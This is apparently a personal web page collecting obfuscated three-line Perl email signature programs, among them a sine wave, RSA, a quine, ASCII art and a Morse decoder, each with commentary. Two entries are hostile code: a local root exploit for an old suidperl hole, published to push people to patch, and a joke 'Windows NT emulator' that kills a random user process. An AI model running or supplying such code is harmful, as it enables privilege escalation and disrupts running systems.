From time to time I dabble with creating tiny programs suitable for including in the .signature of an email message. Here are some of them.

sine wave

#!/usr/bin/perl -lisubstr($_,39+38*sin++$y/9,2)=$s
for($s='  '||McQ;$_='JOEY HESS 'x8;print){eval$^I}#          Joey Hess

This is not very impressive, but it was my first attempt at a signature program, I think. Note the embedded "McQ".


#!/usr/bin/perl -pl-                                     ,,ep) ayf >|)nj,,
$_=reverse lc$_;s@"@''@g;y/[]{A-U}<>()a-y1-9,!.?`'/][} #         Joey Hess
{><)(eq)paj6y!fk7wuodbjsfn^mxhl2Eh59L86`i'%,/;s@k@>|@g #

This is actually included in filters. Note the text on the first line, which dates it pretty well. Again not technically very interesting.


#!/bin/perl -sp0777i<X+d*lMLa^*lN%0]dsXx++lMlN/dsM0<j]dsj    RSA-3-lines-perl
$/=unpack('H*',$_);$_=`echo 16dio\U$k"SK$/SM$n\EsN0p[lN*1 #         Joey Hess
lK[d2%Sa2/d0$^Ixp"|dc`;s/\W//g;$_=pack('H*',/((..)*)$/)   #

When I wrote this there were some sigs doing RSA in 3 lines of perl; I modified one of them to include the perl hashbang so it could be made properly executable, using the $^I trick. I'm a bit suprised to see in Google that this version escaped onto the net and is now somewhat the canonical version.

Unfortunatly, I came up with this version only after some people had gotten the older 4 line version tattoed on themselves, put it on T-shirts, etc. Ouch. On the other hand, here's two guys who got my program tatooed on them:

tattoo2.jpg tattoo3.jpgI have to confess that I don't understand the inner dc-based workings of this program at all.


#!/usr/bin/perl -i\$q='$q',\$p='$p';eval\$q.\$\^I\n"#
$q='print"$p$^I\n',$p='#!/usr/bin/perl -i';eval$q.$^I  #          Joey Hess

Line any good quine, it just prints itself. Is this the smallest possible perl quine containing a perl hashbang line?


#!/usr/bin/perl -i=-/*/~%*~%/~~%/~~~-/*/_/=~~~-/====~~!
$o=35;$_="$^I-*!=====_!/";s/~/!*/g;s~%~-/ / ~g;$_.='---      Joey Hess
';s/=/__/g;y|*!| \\|;for(split/-/){print' 'x$o--."$_\n"}# a M.C. Escher fanNothing special here except some basic text compression. I prefer this next verison, which packs the same picture somewhat more impressively, and has good block text too.

#!/usr/bin/perl -li361M61AAM61AGMAM61AG261_G326G026M03_MG
;y!MAG!\\ /!;print' 'x$x--,$_}# MC Escher meets Joey Hess

Also, note the embedded "GAG", "MAMA", and a shout out to my sister, "MAG".


#!/usr/bin/perl -i$>=0;$<=0;exec"/bin/sh"'>achmod
$_="echo '#!/usr/bin/suidperl -U\n$^I 2755aa";s=a= $ENV{HOME}/Imroot;=g;exec$_
# Get root in 30 seconds or less. Fix this hole: upgrade to perl 5.003 today..

An exploit for an old security hole in perl. In 3 lines. This was intended toadvertise the hole, which people were being a bit slow to fix.


#!/usr/bin/perl -pi___Syntax:_sig.pl_<location-of-netscape-program>___
BEGIN{$ARGV[0]||do{$^I=~y/_/ /;print"$^I\n";exit}$^I='.bak'}#        Joey Hess
#Remove frames from Netscape forever! <>

Back before I gave up on making the web not suck. Thisbinary edited frames support out of netscape. I rather like that it includes embedded usage help.


#!/usr/bin/perl -nietianmsurwdkgohvf_l_pjbxcyzq   --. --- -  .--. . .-. .-..
y/-. //cd;for$^(split){for$b(1..80){$_=int($b/27).$b/9%3 .$b/3%3 .$b# by  JH
%3;/[12]0/||do{y/120/.-/d;$^eq$_&&print substr$^I,$c,1;$c++}}$c=0}  # and RC

A collaboration with Randolph Chung. Yeah, that's a whole Morse code decoder in 3 lines of perl, along with some sample morse code to try it out on. I think this took several days to write, to put it in perspective.

Windows NT

#!/usr/bin/perl -i$l*=2;QSJOUZ"LJMMJOHZ$Q[$L]:Z$Q[$L+1]\O";LJMMZ9,$Q[$L]
$^I=~y/B-Z/a-x /;@p=map{(split)[1,10]}`ps ux`;$k=int rand$#p/2+1;eval$^I
# Check out this cool Windows NT emulator by Joey Hess and Dave DeMaagd!

You really don't want to actually run this evil thing.


#!/usr/bin/perl -ie_one_down_pass_it_around,-:_bottles_of_beer:_on_the_wall:99
";s/(-1_.*?e)s/$1/g;y/_-/ \n/}             Joey Hess, JAPH

The complete lyrics to "99 bottles of beer on the wall" in 3 lines of perl.

Seems to not be completely compatible with current versions of perl, you might need to remove my name to run it. Many of my signature programs exploit bugs and undocumented features of the perl parser, and so they do tend to break from time to time as perl is updated.


$_="Jaercunrlkso  ettphr hea.";for$x(0..4){pos=$x;(print/(.).{0,4}/g)x5}print+v10

Every perl hacker has to write one of these.However, I'm not quite sure what the particular technique here was intended to do -- just to hide the phrase fairly well? The use of pos seems fairly novel.

borg cube

#!/usr/bin/perl -l
=$& while#_H";(s)r
/./g;$x--#$  8r*2p
'',@$_}@a#rOE b+/
;eval $g# oJ"_u9y

Not intended to be used as a signature as it violates McQ, but still a rather scary mass of code. It's a little bit buggy; you have to save it into a file and run the file, rather than just pasting it into perl.

The crazy idea here is that the program rotates itself 90 degrees clockwise, then runs the rotated program, which is a version of the sine wave at the top of this page.

This was a total beast to write, of course.

Along the same vein of obfuscated block perl code, noise line includes some more advanced techniques, including being aprogram that is both valid shell and perl, and having no line wider than 4 characters.


Of course I don't actually use any of these on day-to-day email,preferring the simplerwetware-based signatureprogram:

    see shy jo